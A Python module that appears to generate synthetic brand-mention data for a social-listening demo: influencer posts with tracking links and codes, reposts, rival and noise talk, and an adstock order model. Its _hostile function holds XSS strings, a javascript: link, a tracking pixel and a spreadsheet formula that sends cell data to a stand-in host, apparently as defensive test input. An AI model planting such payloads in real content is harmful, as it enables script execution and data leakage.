"""What is said: influencers' posts, everybody's mentions of both brands, copies, and talk no query should match."""

from __future__ import annotations

from collections.abc import Callable, Sequence
from dataclasses import dataclass, replace
from datetime import date, datetime, timedelta
from math import exp
from random import Random
from urllib.parse import urlencode

from ui.demo.cast import SOURCES, source_for
from ui.demo.phrases import GRAMMARS, Naming, compose, fill
from ui.demo.world import (
    DOMAIN,
    OWN_BRAND,
    RIVAL_BRAND,
    Author,
    Calendar,
    Code,
    Mention,
    Response,
    Source,
    TalkDay,
    berlin_day,
    moment,
    utc,
    weekly,
)

OWN = Naming(OWN_BRAND, "Heelside 2", ("#kickflipsupply", "#heelside2", "#skate", "#skateshoes"))
RIVAL = Naming(RIVAL_BRAND, "Ollie & Sons Drifter", ("#ollieandsons", "#skate", "#skateshoes"))
NOISE = Naming("", "", ("#skate", "#sk8", "#diyspot"))
DEEP_PATHS = ("/products/heelside-2", "/products/heelside-2-low-ember", "/products/kickturn-cup", "/collections/new-in")

_OWN, _RIVAL, _NOISE, _COPIES = 1875, 625, 250, 60  # for 180 days
_FEELINGS = {OWN_BRAND: (0.52, 0.3, 0.18), RIVAL_BRAND: (0.45, 0.35, 0.2)}


@dataclass(frozen=True)
class Talk:
    """A drawn talk: all entries in time order, and the posts that can send buyers."""

    mentions: tuple[Mention, ...]

    @property
    def with_link(self) -> list[Mention]:
        return [m for m in self.mentions if m.campaign and m.url and not m.copy_of]

    @property
    def with_code(self) -> list[Mention]:
        return [m for m in self.mentions if m.code and not m.copy_of]


def draw_talk(rng: Random, calendar: Calendar, cast: Sequence[Author], codes: Sequence[Code]) -> Talk:
    """All mentions of the period, numbered in time order; the default world has about 2,750 entries."""
    scale = calendar.days / 180
    others = [author for author in cast if not author.influencer]
    mentions = influencer_posts(rng, calendar, [a for a in cast if a.influencer], codes)
    late = _late_complaints(rng, calendar, others, round(90 * scale))
    copies = round(_COPIES * scale)
    remaining = max(0, round(_OWN * scale) - len(mentions) - len(late) - copies)
    mentions += late + _ordinary(rng, calendar, others, OWN, remaining, _own_busyness)
    mentions += [_copy(rng, calendar, mention, others) for mention in rng.sample(mentions, copies)]
    mentions += _ordinary(rng, calendar, others, RIVAL, round(_RIVAL * scale), _rival_busyness)
    mentions += _ordinary(rng, calendar, others, NOISE, round(_NOISE * scale), lambda calendar, day: weekly(day))
    mentions += _hostile(rng, calendar, others)
    return Talk(_numbered(mentions))


def influencer_posts(
    rng: Random, calendar: Calendar, influencers: Sequence[Author], codes: Sequence[Code]
) -> list[Mention]:
    """Contracted people post with link or code while a campaign of theirs runs, and now and then beside it."""
    posts = []
    for author in influencers:
        own = [code for code in codes if code.owner == author.key]
        for _ in range(round(4 * calendar.days / 180)):
            day = rng.choice(calendar.all_days)
            posts.append(_influencer_post(rng, calendar, author, day, rng.choices((1, 0, -1), (6, 3, 1))[0], None))
        for code in own:
            posts += _sponsored(rng, calendar, author, code)
    return posts


def _sponsored(rng: Random, calendar: Calendar, author: Author, code: Code) -> list[Mention]:
    first = code.valid_from or calendar.start
    last = min(code.valid_to or calendar.end, calendar.end)
    if code.campaign != "always-on":
        last = min(last, calendar.holiday[1] if code.campaign == "holiday26" else calendar.summer[1])
    posts = 7 if code.campaign == "always-on" else 6
    span = (last - first).days
    days = [first + timedelta(days=rng.randint(0, span)) for _ in range(posts)]
    return [_influencer_post(rng, calendar, author, day, 1 if rng.random() < 0.8 else 0, code) for day in days]


def _influencer_post(
    rng: Random, calendar: Calendar, author: Author, day: date, feeling: int, code: Code | None
) -> Mention:
    mention = _mention(rng, source_for(author), author, moment(rng, day), OWN, feeling=feeling)
    if code is None:
        return mention
    shows_code, shows_link = rng.choice(((True, False), (True, True), (False, True)))
    text = mention.text
    if shows_code:
        offer = rng.choice(GRAMMARS[author.language].code_offer)
        text += " " + offer.replace("{code}", code.code).replace("{pct}", str(code.percent))
    url = tagged_link(author, code.campaign) if shows_link else ""
    return replace(mention, text=text, url=url, code=code.code if shows_code else "", campaign=code.campaign)


def tagged_link(author: Author, campaign: str, *, path: str = DEEP_PATHS[0]) -> str:
    tags = {
        "utm_source": author.network,
        "utm_medium": "influencer",
        "utm_campaign": campaign,
        "utm_content": author.handle,
    }
    return f"https://{DOMAIN}{path}?{urlencode(tags)}"


def _own_busyness(calendar: Calendar, day: date) -> float:
    """Week, a slow growth, and the campaigns: a launch peak that fades and comes back at the end."""
    grown = 1 + 0.3 * (day - calendar.start).days / calendar.days
    campaign = calendar.campaign(day)
    if campaign == "summer26":
        return weekly(day) * grown * 1.5
    if campaign == "holiday26":
        into = (day - calendar.holiday[0]).days
        return weekly(day) * grown * (3.4 if into < 3 else 2.6 if into > 14 else 1.9)
    return weekly(day) * grown


def _rival_busyness(calendar: Calendar, day: date) -> float:
    return weekly(day) * (1.5 if 90 <= (calendar.end - day).days < 100 else 1.0)


def _ordinary(
    rng: Random,
    calendar: Calendar,
    authors: Sequence[Author],
    naming: Naming,
    count: int,
    busyness: Callable[[Calendar, date], float],
) -> list[Mention]:
    """`count` mentions by ordinary authors, on days as busy as they are and noisy besides."""
    weights = [busyness(calendar, day) * rng.uniform(0.7, 1.3) for day in calendar.all_days]
    loudness = [min(rng.paretovariate(1.3), 9.0) for _ in authors]
    days = sorted(rng.choices(calendar.all_days, weights=weights, k=count))
    return [
        _mention(rng, source_for(author), author, moment(rng, day), naming, feeling=_feeling(rng, naming))
        for day, author in zip(days, rng.choices(authors, weights=loudness, k=count), strict=True)
    ]


def _feeling(rng: Random, naming: Naming) -> int:
    return rng.choices((1, 0, -1), _FEELINGS[naming.brand])[0] if naming.brand else 0


def _late_complaints(rng: Random, calendar: Calendar, authors: Sequence[Author], count: int) -> list[Mention]:
    days = [rng.choice(calendar.late_deliveries) for _ in range(count)]
    return [
        _mention(rng, source_for(author), author, moment(rng, day), OWN, feeling=-1, late=True)
        for day, author in zip(days, rng.choices(authors, k=count), strict=True)
    ]


def _mention(
    rng: Random, source: Source, author: Author, at: datetime, naming: Naming, *, feeling: int, late: bool = False
) -> Mention:
    grammar = GRAMMARS[author.language]
    if naming.brand:
        text = compose(grammar, rng, naming, feeling=feeling, late=late)
        title = fill(rng.choice(grammar.titles), rng, naming)
    else:
        text, title = fill(rng.choice(grammar.noise), rng, naming), fill(rng.choice(grammar.noise_titles), rng, naming)
        text += f" {rng.choice(naming.hashtags)}" if rng.random() < 0.5 else ""
    linked = naming is OWN and not late and not author.influencer and rng.random() < 0.12
    views = int(rng.lognormvariate(8, 1.2)) if source.format == "youtube" else None
    return Mention(
        guid="",
        source=source.name,
        network=source.network,
        link="",
        title=title if source.titled else "",
        text=text,
        url=f"https://{DOMAIN}{rng.choice(DEEP_PATHS)}" if linked else "",
        author=author,
        published_at=at,
        language=author.language,
        feeling=feeling,
        brand=naming.brand,
        comments=_comments(rng, feeling) if source.counts_comments else None,
        views=views,
        likes=None if views is None else int(views * rng.uniform(0.02, 0.09)),
    )


def _comments(rng: Random, feeling: int) -> int:
    return int(rng.expovariate(1 / (9 if feeling < 0 else 4)))


def _copy(rng: Random, calendar: Calendar, original: Mention, authors: Sequence[Author]) -> Mention:
    """The same words by somebody else, hours later: a retweet, or a blog that copies."""
    fitting = [a for a in authors if a.language == original.language and a.key != original.author.key]
    author = rng.choice([a for a in fitting if a.network == original.network] or fitting)
    source = source_for(author)
    at = min(original.published_at + timedelta(minutes=rng.randint(4, 2200)), utc(calendar.closes))
    marker = f"RT @{original.author.handle}: " if source.network == "mastodon" else ""
    return replace(
        original,
        source=source.name,
        network=source.network,
        author=author,
        published_at=at,
        text=marker + original.text,
        title=original.title or (original.text[:60] if source.titled else ""),
        comments=0 if source.counts_comments else None,
        views=None,
        likes=None,
        copy_of=f"{original.author.key}|{original.published_at.isoformat()}|{original.text}",
    )


def _hostile(rng: Random, calendar: Calendar, authors: Sequence[Author]) -> list[Mention]:
    """Three entries that try their luck with whoever shows them."""
    author = next(a for a in authors if a.network == "forum" and a.language == "en")
    base = _mention(rng, source_for(author), author, moment(rng, calendar.end - timedelta(days=3)), OWN, feeling=0)
    base = replace(base, comments=0, url="")
    formula = '=HYPERLINK("https://coupons.example/?x="&A1,"Kickflip Supply coupon")'
    script = "Kickflip Supply <script>alert(1)</script><img src=x onerror=alert(2)> size chart?"
    return [
        replace(base, text="Kickflip Supply size chart ![x](https://pixel.example/p.gif) [open](javascript:alert(1))"),
        replace(base, text=script, raw_html=f"<p>{script}</p>", title="Kickflip Supply <b>chart</b>"),
        replace(base, text=f"{formula} @SUM(A1)", title=formula),
    ]


def _numbered(mentions: Sequence[Mention]) -> tuple[Mention, ...]:
    """Guids and links by place in time; a copy names its original by guid from here on."""
    ordered = sorted(mentions, key=lambda m: (m.published_at, m.source, m.author.key, m.text, m.raw_html))
    numbered = [_identified(mention, number) for number, mention in enumerate(ordered, start=1)]
    origins = {f"{m.author.key}|{m.published_at.isoformat()}|{m.text}": m.guid for m in numbered}
    return tuple(replace(m, copy_of=origins[m.copy_of]) if m.copy_of else m for m in numbered)


def _identified(mention: Mention, number: int) -> Mention:
    host = next(source.host for source in SOURCES if source.name == mention.source)
    token = f"{number:05d}{(number * 2654435761) % 0xFFFFF:05x}"
    path, guid = {
        "instagram": (f"p/{token}", f"instagram-{token}"),
        "tiktok": (f"@{mention.author.handle}/video/{token}", f"tag:{host},2026:video/{token}"),
        "youtube": (f"watch?v={token}", f"yt:video:{token}"),
        "reddit": (f"r/skate/comments/{token}", f"tag:{host},2026:t3_{token}"),
        "mastodon": (f"@{mention.author.handle}/{token}", f"https://{host}/@{mention.author.handle}/{token}"),
    }.get(mention.network, (f"{mention.published_at:%Y/%m}/{token}", f"https://{host}/?p={token}"))
    return replace(mention, guid=guid, link=f"https://{host}/{path}")


def talk_days(
    mentions: Sequence[Mention], calendar: Calendar, *, response: Response, orders: float
) -> tuple[TalkDay, ...]:
    """Expected orders a day from the own brand's talk that is not negative, `orders` in all.

    Adstock carries half of each day's talk to the next: A_t = 0.5 m_t + 0.5 A_{t-1}. The shapes are
    linear in A; saturating 1 - exp(-A / 0.9 mean A); threshold max(0, A - 0.8 mean A). Days before the
    period are taken to have talked as its first two weeks did.
    """
    counts = dict.fromkeys(calendar.all_days, 0)
    for mention in mentions:
        if mention.brand == OWN_BRAND and mention.feeling >= 0:
            counts[berlin_day(mention.published_at)] += 1
    strength, carried = [], sum(list(counts.values())[:14]) / 14
    for count in counts.values():
        carried = 0.5 * count + 0.5 * carried
        strength.append(carried)
    effects = shaped(strength, response)
    unit = orders / (sum(effects) or 1)
    rows = zip(counts.items(), strength, effects, strict=True)
    return tuple(TalkDay(day, count, adstock, effect * unit) for (day, count), adstock, effect in rows)


def shaped(strength: Sequence[float], response: Response) -> list[float]:
    """How strongly each day's talk sells, in no unit."""
    mean = sum(strength) / len(strength)
    if response == "saturating":
        return [1 - exp(-value / (0.9 * mean)) for value in strength]
    if response == "threshold":
        return [max(0.0, value - 0.8 * mean) for value in strength]
    return list(strength)
